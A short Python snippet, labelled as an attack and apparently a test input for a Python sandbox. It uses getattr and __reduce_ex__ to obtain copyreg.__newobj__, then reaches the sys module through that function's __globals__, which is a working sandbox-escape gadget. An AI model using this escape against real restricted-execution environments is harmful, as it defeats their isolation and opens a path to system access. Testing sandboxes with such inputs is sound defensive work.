# attack: (1).__reduce_ex__(2) hands out copyreg.__newobj__, whose globals lead to sys
r = getattr(1, "__reduce_ex__")(2)
fn = r[0]
print(getattr(fn, "__globals__")["sys"])
